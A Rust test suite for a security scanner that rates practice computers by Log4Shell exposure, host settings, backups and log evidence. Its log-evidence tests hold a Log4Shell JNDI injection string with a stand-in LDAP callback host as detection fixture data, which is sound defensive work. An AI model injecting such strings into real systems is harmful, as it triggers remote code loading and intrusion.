//! The scoring model: light, score, coverage, actions, accepted risks.

use praxcheck_advisories::{Fact, FactValue, Facts};
use praxcheck_assess::AcceptedRisk;
use praxcheck_model::{
    AdvisorySetRef, CheckState, CollectorId, Document, Light, ScanInfo, Severity, Status,
};

use crate::common::{World, check, doc, facts};

fn empty_doc(os: &str, collectors: &[CollectorId]) -> Document {
    Document::new(
        ScanInfo {
            hostname: "pc".into(),
            os: os.into(),
            started_at: "2026-11-29T08:00:00Z".into(),
            collectors: collectors.to_vec(),
            complete: true,
            ..ScanInfo::default()
        },
        AdvisorySetRef::default(),
    )
}

/// Host facts of a well-kept Windows PC.
fn good_windows() -> Facts {
    let mut f = facts("empfang.facts.json");
    let mut out = Facts::new();
    for x in f.iter() {
        let mut x = x.clone();
        x.value = match x.key.as_str() {
            "firewall.enabled" | "disk.system_encrypted" => FactValue::Bool(true),
            "backup.newest_target_attached_now" => FactValue::Bool(false),
            "backup.newest_age_days" => FactValue::Int(0),
            _ => x.value,
        };
        out.push(x);
    }
    out.push(Fact::new("log.scanned", FactValue::Bool(true), "logs"));
    f = out;
    f
}

#[test]
fn a_live_log4shell_makes_the_light_red_and_says_why() {
    let w = World::new();
    let mut docs = vec![doc("empfang.json")];
    let a = w.run(&mut docs, &[facts("empfang.facts.json")]);
    assert_eq!(a.light, Light::Red);
    assert!(
        a.light_reasons[0].de.contains("log4j-core 2.14.1"),
        "{:?}",
        a.light_reasons
    );
    assert!(
        a.light_reasons[0]
            .en
            .starts_with("Critical – log4j-core 2.14.1")
    );
    // One reason per component, not one per advisory.
    assert_eq!(a.light_reasons.len(), 1, "{:?}", a.light_reasons);
    // The document carries its findings and its own assessment.
    let d = &docs[0];
    assert!(
        d.findings
            .iter()
            .any(|f| f.rule_id == "CVE-2021-44228" && f.status == Status::Vulnerable)
    );
    assert!(
        d.findings
            .iter()
            .any(|f| f.rule_id == "PRAX-HOST-FIREWALL-OFF")
    );
    assert!(d.findings.iter().any(
        |f| f.rule_id == "PRAX-PROD-ZEISS-FORUM-LOG4SHELL" && f.status == Status::Undetermined
    ));
    assert_eq!(d.assessment.as_ref().unwrap().light, Light::Red);
    // Component findings carry effort and KBV requirements.
    for f in d.findings.iter().filter(|f| f.subject.component.is_some()) {
        assert!(f.effort.is_some(), "{}", f.rule_id);
        assert!(!f.kbv.is_empty(), "{}", f.rule_id);
    }
    // The KBV test module is recognised, with no finding of its own (2026.4.2 is current).
    assert!(a.products.iter().any(|p| p.product == "kbv-xpm"));
    assert!(
        !d.findings
            .iter()
            .any(|f| f.rule_id == "PRAX-PROD-KBV-XPM-LOG4J")
    );
}

#[test]
fn a_critical_copy_in_a_download_folder_is_not_red() {
    let w = World::new();
    let mut d = doc("empfang.json");
    d.inventory
        .components
        .retain(|c| c.location.display.contains("Downloads"));
    let mut docs = vec![d];
    let a = w.run(&mut docs, &[]);
    assert!(
        docs[0]
            .findings
            .iter()
            .any(|f| f.severity == Severity::Critical && f.status == Status::Vulnerable)
    );
    assert_eq!(a.light, Light::Yellow, "{:?}", a.light_reasons);
}

#[test]
fn an_accepted_risk_stays_visible_stops_driving_the_light_and_returns_on_expiry() {
    let mut w = World::new();
    for rule in ["CVE-2021-44228", "CVE-2021-45046"] {
        w.answers.accepted.push(AcceptedRisk {
            finding: None,
            rule: Some(rule.into()),
            host: Some("empfang".into()),
            reason: "Hersteller verbietet Eingriffe; Rechner ohne Internet".into(),
            expires: "2026-12-31".into(),
            by: Some("Dr. Muster".into()),
            date: "2026-11-29".into(),
        });
    }
    let mut docs = vec![doc("empfang.json")];
    let a = w.run(&mut docs, &[facts("empfang.facts.json")]);
    assert_ne!(a.light, Light::Red, "{:?}", a.light_reasons);
    let acc: Vec<_> = docs[0]
        .findings
        .iter()
        .filter(|f| f.status == Status::Accepted)
        .collect();
    assert!(!acc.is_empty());
    assert!(
        acc.iter()
            .all(|f| f.accepted.as_ref().unwrap().expires == "2026-12-31")
    );
    // Accepted earns no points.
    assert_eq!(check(&a, "java.components", "empfang").earned, 0);
    // Another machine is not covered by a host-bound acceptance.
    let mut other = doc("empfang.json");
    other.scan.hostname = "arzt1".into();
    let mut docs2 = vec![other];
    assert_eq!(w.run(&mut docs2, &[]).light, Light::Red);
    // After the expiry date the finding counts again.
    w.today = praxcheck_advisories::parse_date("2027-01-01").unwrap();
    let mut docs = vec![doc("empfang.json")];
    let a = w.run(&mut docs, &[facts("empfang.facts.json")]);
    assert_eq!(a.light, Light::Red);
    let f = docs[0]
        .findings
        .iter()
        .find(|f| f.rule_id == "CVE-2021-44228" && f.status == Status::Vulnerable)
        .unwrap();
    assert!(
        f.explanation.de.contains("abgelaufen"),
        "{}",
        f.explanation.de
    );
}

#[test]
fn not_checked_earns_nothing_and_can_only_lower_the_score() {
    let w = World::new();
    let full = good_windows();
    let base = {
        let mut docs = vec![empty_doc(
            "windows",
            &[CollectorId::Java, CollectorId::Host],
        )];
        w.run(&mut docs, std::slice::from_ref(&full)).score
    };
    assert!(base.possible > 0 && base.earned > 0);
    for fact in full.iter() {
        if fact.key == "os.family" {
            continue;
        }
        let less: Facts = full.iter().filter(|f| f.key != fact.key).cloned().collect();
        let mut docs = vec![empty_doc(
            "windows",
            &[CollectorId::Java, CollectorId::Host],
        )];
        let s = w.run(&mut docs, &[less]).score;
        assert!(
            s.earned <= base.earned,
            "removing {} raised the score: {s:?} > {base:?}",
            fact.key
        );
        assert_eq!(
            s.possible, base.possible,
            "removing {} changed the total",
            fact.key
        );
    }
    // Not applicable leaves the total: the SSH rule does not apply on Windows.
    let mut docs = vec![empty_doc(
        "windows",
        &[CollectorId::Java, CollectorId::Host],
    )];
    let a = w.run(&mut docs, std::slice::from_ref(&full));
    let ssh = check(&a, "PRAX-HOST-SSH-ROOT-PASSWORD", "pc");
    assert_eq!(ssh.state, CheckState::NotApplicable);
    let applicable: u32 = a
        .checks
        .iter()
        .filter(|c| c.state != CheckState::NotApplicable)
        .map(|c| c.points)
        .sum();
    assert_eq!(a.score.possible, applicable);
    assert!(a.score.percent <= 100);
}

#[test]
fn green_needs_nothing_medium_open_and_80_percent_coverage() {
    let w = World::new();
    let mut docs = vec![empty_doc(
        "windows",
        &[CollectorId::Java, CollectorId::Host],
    )];
    let a = w.run(&mut docs, &[good_windows()]);
    assert_eq!(a.light, Light::Green, "{:?}", a.light_reasons);
    assert!(a.coverage.percent >= 80);
    // Without host facts most automated checks did not run: never green.
    let mut docs = vec![empty_doc(
        "windows",
        &[CollectorId::Java, CollectorId::Host],
    )];
    let a = w.run(&mut docs, &[]);
    assert_eq!(a.light, Light::Yellow);
    assert!(a.coverage.percent < 80);
    assert!(a.light_reasons.iter().any(|r| r.de.contains("80 %")));
    // A medium finding open: yellow although everything ran.
    let mut f = good_windows();
    f.push(Fact::new(
        "updates.pending_security_count",
        FactValue::Int(3),
        "wua",
    ));
    let less: Facts = f
        .iter()
        .filter(|x| !(x.key == "updates.pending_security_count" && x.value == FactValue::Int(0)))
        .cloned()
        .collect();
    let mut docs = vec![empty_doc(
        "windows",
        &[CollectorId::Java, CollectorId::Host],
    )];
    let a = w.run(&mut docs, &[less]);
    assert_eq!(a.light, Light::Yellow, "{:?}", a.light_reasons);
}

#[test]
fn no_usable_backup_is_red() {
    let w = World::new();
    let mut docs = vec![doc("server.json")];
    let a = w.run(&mut docs, &[facts("server.facts.json")]);
    assert_eq!(a.light, Light::Red);
    assert!(
        a.light_reasons
            .iter()
            .any(|r| r.de.contains("Datensicherung"))
    );
}

#[test]
fn actions_rank_value_over_effort_and_running_copies_first() {
    let w = World::new();
    let mut docs = vec![doc("empfang.json")];
    let a = w.run(&mut docs, &[facts("empfang.facts.json")]);
    let first = &a.actions[0];
    assert_eq!(first.rank, 1);
    assert_eq!(first.severity, Severity::Critical);
    assert!(
        first.title.de.contains("log4j-core 2.14.1"),
        "{:?}",
        first.title
    );
    assert!(first.location.as_deref().unwrap().contains("termine.war"));
    let rank_of = |needle: &str| {
        a.actions
            .iter()
            .find(|x| x.location.as_deref().is_some_and(|l| l.contains(needle)))
            .unwrap_or_else(|| panic!("no action for {needle}"))
            .rank
    };
    assert!(rank_of("termine.war") < rank_of("Downloads"));
    // Ranks are 1..n and priorities do not increase.
    for (i, x) in a.actions.iter().enumerate() {
        assert_eq!(x.rank as usize, i + 1);
    }
    for p in a.actions.windows(2) {
        assert!(p[0].priority >= p[1].priority);
    }
    // Cheap and important: the firewall comes before the expensive disk encryption.
    let pos = |t: &str| {
        a.actions
            .iter()
            .position(|x| x.title.de.contains(t))
            .unwrap()
    };
    assert!(pos("Firewall einschalten") < pos("Festplatte verschlüsseln"));
    // The questionnaire is an action while questions are open.
    assert!(
        a.actions
            .iter()
            .any(|x| x.title.de == "Fragebogen beantworten")
    );
}

#[test]
fn traces_of_an_attack_set_the_incident_flag() {
    let w = World::new();
    let mut f = facts("empfang.facts.json");
    f.push(Fact::new("log.scanned", FactValue::Bool(true), "logs"));
    let mut docs = vec![doc("empfang.json")];
    assert!(!w.run(&mut docs, std::slice::from_ref(&f)).incident);
    let mut e = Fact::new(
        "log.evidence",
        FactValue::Text("lookup_executed".into()),
        "catalina.out",
    );
    e.detail = Some("line 812: ${jndi:ldap://198.51.100.7:1389/x}".into());
    f.push(e);
    let mut docs = vec![doc("empfang.json")];
    let a = w.run(&mut docs, &[f]);
    assert!(a.incident);
    assert_eq!(a.light, Light::Red);
}

#[test]
fn the_set_age_is_reported_and_old_sets_are_flagged() {
    let mut w = World::new();
    let mut docs = vec![doc("server.json")];
    let a = w.run(&mut docs, &[]);
    assert_eq!(a.advisories.age_days, 0);
    assert!(!a.advisories.stale);
    w.today = praxcheck_advisories::parse_date("2027-02-01").unwrap();
    let mut docs = vec![doc("server.json")];
    let a = w.run(&mut docs, &[]);
    assert_eq!(a.advisories.age_days, 64);
    assert!(a.advisories.stale);
}

#[test]
fn log_evidence_in_the_document_becomes_findings_by_level() {
    use praxcheck_model::{
        Callback, EvidenceLevel, ExecutionMarker, Location, LogEvidence, PathSegment,
    };
    let w = World::new();
    let mut d = doc("server.json");
    d.scan.collectors.push(CollectorId::Logs);
    let loc = Location::new(vec![PathSegment::Text(
        "/opt/tomcat/logs/catalina.out".into(),
    )]);
    let trace = |level, line, marker| LogEvidence {
        location: loc.clone(),
        line,
        timestamp: Some("2021-12-11 03:12:40".into()),
        source_address: Some("203.0.113.9".into()),
        level,
        payload: Some("${jndi:ldap://198.51.100.7:1389/a}".into()),
        payload_truncated: false,
        callback: Some(Callback {
            protocol: "ldap".into(),
            host: Some("198.51.100.7".into()),
            port: Some(1389),
        }),
        obfuscation: Vec::new(),
        marker,
    };
    // Logs read, nothing found: the log checks pass.
    let mut docs = vec![d.clone()];
    let a = w.run(&mut docs, &[facts("server.facts.json")]);
    assert_eq!(
        check(&a, "PRAX-LOG-PAYLOAD-SEEN", "server").state,
        CheckState::Passed
    );
    assert!(!a.incident);
    // A payload: high, incident guidance; its evidence names file, line, payload, callback.
    d.inventory
        .log_evidence
        .push(trace(EvidenceLevel::PayloadSeen, 17, None));
    let mut docs = vec![d.clone()];
    let a = w.run(&mut docs, &[]);
    assert!(a.incident);
    let f = docs[0]
        .findings
        .iter()
        .find(|f| f.rule_id == "PRAX-LOG-PAYLOAD-SEEN")
        .unwrap();
    assert_eq!(f.severity, Severity::High);
    assert_eq!(
        f.evidence[0].path.as_deref(),
        Some("/opt/tomcat/logs/catalina.out")
    );
    assert!(
        f.evidence[0].detail.contains("line 17"),
        "{}",
        f.evidence[0].detail
    );
    assert!(f.evidence[0].detail.contains("ldap://198.51.100.7:1389"));
    // The lookup ran: critical, red.
    d.inventory.log_evidence.push(trace(
        EvidenceLevel::LookupExecuted,
        18,
        Some(ExecutionMarker::JndiLookupFrame),
    ));
    let mut docs = vec![d];
    let a = w.run(&mut docs, &[]);
    assert_eq!(a.light, Light::Red);
    let f = docs[0]
        .findings
        .iter()
        .find(|f| f.rule_id == "PRAX-LOG-LOOKUP-EXECUTED")
        .unwrap();
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.evidence[0].detail.contains("jndi_lookup_frame"));
}

#[test]
fn host_facts_in_the_document_drive_the_rules_and_end_of_life_passes_with_time() {
    let mut w = World::new();
    let host: praxcheck_model::HostFacts = serde_json::from_str(
        r#"{"platform": "linux", "collected_at": "2026-05-01T08:00:00Z", "privileged": true,
            "facts": [
              {"key": "os.family", "type": "text", "value": "linux", "confidence": "high"},
              {"key": "os.end_of_life", "type": "date", "value": "2026-06-10", "confidence": "high",
               "sources": [{"kind": "reference_data", "reference": "endoflife.date debian 12"}]},
              {"key": "firewall.enabled", "type": "bool", "value": true, "confidence": "high",
               "sources": [{"kind": "command", "reference": "nft -j list ruleset"}]},
              {"key": "remote.tools", "type": "remote_tools", "confidence": "high",
               "value": [{"name": "AnyDesk", "installed": true, "starts_unattended": true, "evidence": "systemd unit"},
                         {"name": "RustDesk", "installed": true, "starts_unattended": false, "evidence": "package"}]},
              {"key": "accounts.empty_password", "type": "list", "value": ["gast"], "confidence": "high"},
              {"key": "screenlock.enabled", "type": "unknown", "confidence": "high",
               "value": {"reason": "not_applicable", "detail": "no graphical desktop"}},
              {"key": "screenlock.timeout_seconds", "type": "unknown", "confidence": "high",
               "value": {"reason": "not_applicable", "detail": "no graphical desktop"}},
              {"key": "backup.found", "type": "unknown", "confidence": "high",
               "value": {"reason": "needs_privilege", "detail": "/srv/backup: permission denied"}}
            ]}"#,
    )
    .unwrap();
    let mut d = doc("server.json");
    d.scan.collectors.push(CollectorId::Host);
    d.inventory.host = Some(host);
    w.today = praxcheck_advisories::parse_date("2026-11-29").unwrap();
    let mut docs = vec![d.clone()];
    let a = w.run(&mut docs, &[]);
    let rules: Vec<&str> = docs[0]
        .findings
        .iter()
        .map(|f| f.rule_id.as_str())
        .collect();
    assert!(rules.contains(&"PRAX-HOST-OS-EOL"), "{rules:?}");
    assert!(
        rules.contains(&"PRAX-HOST-REMOTE-TOOL-UNATTENDED"),
        "{rules:?}"
    );
    assert!(
        rules.contains(&"PRAX-HOST-ACCOUNT-NO-PASSWORD"),
        "{rules:?}"
    );
    assert!(!rules.contains(&"PRAX-HOST-FIREWALL-OFF"));
    let f = docs[0]
        .findings
        .iter()
        .find(|f| f.rule_id == "PRAX-HOST-REMOTE-TOOL-UNATTENDED")
        .unwrap();
    assert!(f.evidence[0].detail.contains("AnyDesk") && !f.evidence[0].detail.contains("RustDesk"));
    assert_eq!(
        check(&a, "PRAX-HOST-FIREWALL-OFF", "server").state,
        CheckState::Passed
    );
    // Does not apply here (no desktop): not applicable, not "not checked".
    assert_eq!(
        check(&a, "PRAX-HOST-SCREENLOCK", "server").state,
        CheckState::NotApplicable
    );
    // Could not be read (needs root): not checked, with the reason.
    let b = check(&a, "PRAX-HOST-BACKUP-NONE", "server");
    assert_eq!(b.state, CheckState::NotChecked);
    assert!(b.missing[0].contains("needs_privilege"), "{:?}", b.missing);
    // The same stored document assessed as of a day before the end of life: not yet past.
    w.today = praxcheck_advisories::parse_date("2026-06-01").unwrap();
    let mut docs = vec![d];
    let _ = w.run(&mut docs, &[]);
    assert!(
        !docs[0]
            .findings
            .iter()
            .any(|f| f.rule_id == "PRAX-HOST-OS-EOL")
    );
}
